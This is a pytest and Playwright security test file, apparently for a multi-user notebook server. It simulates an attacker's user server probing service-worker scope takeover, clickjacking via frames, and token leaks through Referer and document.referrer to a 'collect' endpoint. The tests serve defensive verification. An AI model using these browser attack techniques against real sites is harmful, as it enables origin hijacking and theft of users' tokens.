"""What a page of the attacker's does with the browser: service workers, frames of the front, where one came from."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from tests.attack.arena import Arena, Learner
from tests.attack.test_pages import FORM, FRAME

Judge = Callable[[bool], None]

REGISTER = """async ([script, scope]) => {
  try {
    const found = await navigator.serviceWorker.register(script, { scope });
    await found.unregister();
    return found.scope;
  } catch (error) {
    return String(error);
  }
}"""


@pytest.mark.tries(
    "A service worker of the attacker's server takes over addresses beyond it (`/`, `/user/`, the victim's)"
)
def test_a_service_worker_takes_over_nothing(arena: Arena, victim: Learner, attacker: Learner, judge: Judge) -> None:
    attacker.say("worker.js", "/* nothing */", Content_Type="text/javascript", Service_Worker_Allowed="/")
    page = victim.visits(attacker)
    script = attacker.base + "worker.js"
    assert page.evaluate(REGISTER, [script, attacker.base]) == attacker.base, "its own paths"
    beyond = (arena.front + "/", arena.front + "/user/", victim.base)
    judge(any(page.evaluate(REGISTER, [script, scope]) == scope for scope in beyond))


@pytest.mark.tries("A page frames the front's pages, for clicks that the victim does not mean")
def test_a_page_frames_the_front(arena: Arena, victim: Learner, attacker: Learner, judge: Judge) -> None:
    page = victim.visits(attacker)
    for path in ("/info", "/"):
        page.evaluate(FRAME, arena.front + path)
    judge(any(frame.evaluate("() => document.querySelector('main, section') !== null") for frame in page.frames[1:]))


@pytest.mark.tries("The attacker's server is told (`Referer`) the address, key and token that the victim came from")
def test_a_referer_tells_no_secret(victim: Learner, attacker: Learner, judge: Judge) -> None:
    image = attacker.base + "collect.gif"
    victim.say("page.html", f"<!doctype html><img src='{image}' referrerpolicy='unsafe-url'>")
    page = victim.open(victim.link("page.html?token=a-token"))
    page.wait_for_load_state("networkidle")
    with page.expect_navigation():
        page.evaluate("(url) => { location.href = url; }", attacker.link("collect.html"))
    told = [value for request in attacker.heard("collect") for name, value in request["headers"] if name == "Referer"]
    assert attacker.heard("collect.html")
    judge(any(secret in value for value in told for secret in ("a-token", "page.html", victim.key or "a-token")))


@pytest.mark.tries("A page reads in `document.referrer` the address and token that the victim came from")
def test_a_script_is_told_the_address_before(victim: Learner, attacker: Learner, judge: Judge) -> None:
    victim.say("page.html", "<!doctype html>")
    victim.visits(attacker)
    page: Page = victim.open(victim.base + "page.html?token=a-token")
    with page.expect_navigation():
        page.evaluate("(url) => { location.href = url; }", attacker.base + "collect.html")
    judge("a-token" in page.evaluate("() => document.referrer"))


# At the front name clients of tmpnb are told servers' addresses (Thebe 0.x), with the key.
@pytest.mark.tries("A document or a worker of the attacker's server gets the front's own origin")
def test_no_document_of_a_server_has_the_fronts_origin(
    arena: Arena, victim: Learner, attacker: Learner, judge: Judge
) -> None:
    script = "<script>document.title = 'ran at ' + self.origin</script>"
    attacker.say("front.html", f"<!doctype html>{script}")
    attacker.say("front.js", "/* nothing */", Content_Type="text/javascript", Service_Worker_Allowed="/")
    url = f"{arena.front}/user/{attacker.user}/" + (f"~{attacker.key}/" if attacker.key else "")
    page = victim.open(url + "front.html")
    titles = [page.title()]
    page = victim.visits(attacker)
    page.evaluate(FRAME, url + "front.html")
    titles += [frame.title() for frame in page.frames[1:]]
    with page.expect_navigation():
        page.evaluate(FORM, url + "front.html")
    titles.append(page.title())
    for headers in ({}, {"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate"}):
        answer = arena.ask("POST", url + "front.html", {"Accept": "text/html", **headers})
        if answer.status == 200 and "sandbox" not in answer.header("Content-Security-Policy"):
            titles.append(f"ran at {arena.front}")
    worker = arena.ask("GET", url + "front.js", {"Service-Worker": "script", "Sec-Fetch-Dest": "serviceworker"})
    judge(f"ran at {arena.front}" in titles or worker.status == 200)
